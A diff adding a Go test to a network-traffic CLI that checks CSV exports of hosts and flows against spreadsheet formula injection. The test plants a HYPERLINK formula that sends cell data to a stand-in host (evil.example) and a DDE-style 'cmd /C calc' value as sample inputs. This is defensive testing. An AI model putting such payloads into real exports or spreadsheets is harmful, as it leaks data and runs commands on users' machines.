@@ -2,12 +2,16 @@ package cli
 
 import (
 	"compress/gzip"
+	"context"
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
+
+	"github.com/zonewalk/zonewalk/app"
 )
 
 func TestTrafficCommands(t *testing.T) {
@@ -96,5 +100,61 @@ func TestTrafficCommands(t *testing.T) {
 	os.WriteFile(notCapture, []byte("hello\n"), 0o600)
 	if code, _, errs = run(t, nil, "traffic", "import", "--workspace", dir, notCapture); code != 1 || !strings.Contains(errs, "notes.txt") || !strings.Contains(errs, "not a pcap") {
 		t.Errorf("import of a text file: %d %s", code, errs)
+	}
+}
+
+// TestTrafficCSVGuardsFormulas: traffic hosts and flows as CSV carry asset
+// tags and zone names, which may be anything a person or a bundle typed;
+// no cell may begin with what a spreadsheet runs as a formula.
+func TestTrafficCSVGuardsFormulas(t *testing.T) {
+	dir := filepath.Join(t.TempDir(), "demo")
+	sample := filepath.Join(t.TempDir(), "sample.pcap")
+	if code, out, errs := run(t, nil, "demo", "--workspace", dir, "--capture", sample); code != 0 {
+		t.Fatalf("demo: %d %s %s", code, out, errs)
+	}
+	const tag, zone = `=HYPERLINK("http://evil.example/?"&A1,"PLC")`, "@SUM(1+1)*cmd|' /C calc'!A0"
+	w, err := app.Open(context.Background(), dir, app.Options{Author: "test"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	a, ok := w.Asset("asset-plc101") // 10.1.1.10 in the sample capture
+	if !ok {
+		t.Fatal("demo has no asset-plc101")
+	}
+	z, _ := w.Zone(a.Zone)
+	z.Name = zone
+	a.Tag = tag
+	if _, err := w.SaveZone(z); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := w.SaveAsset(a); err != nil {
+		t.Fatal(err)
+	}
+	w.Close()
+	if code, out, errs := run(t, nil, "traffic", "import", "--workspace", dir, sample); code != 0 {
+		t.Fatalf("traffic import: %d %s %s", code, out, errs)
+	}
+	for _, what := range []string{"hosts", "flows"} {
+		code, out, errs := run(t, nil, "traffic", what, "--workspace", dir, "--format", "csv")
+		if code != 0 {
+			t.Fatalf("traffic %s: %d %s", what, code, errs)
+		}
+		recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		var sawTag, sawZone bool
+		for _, r := range recs[1:] {
+			for i, c := range r {
+				if c != "" && strings.ContainsRune("=+-@\t\r\n", rune(c[0])) {
+					t.Errorf("traffic %s: %s %q would run as a formula", what, recs[0][i], c)
+				}
+				sawTag = sawTag || c == "'"+tag
+				sawZone = sawZone || c == "'"+zone
+			}
+		}
+		if !sawTag || !sawZone {
+			t.Errorf("traffic %s: the guarded tag (%v) or zone name (%v) is missing:\n%s", what, sawTag, sawZone, out)
+		}
 	}
 }
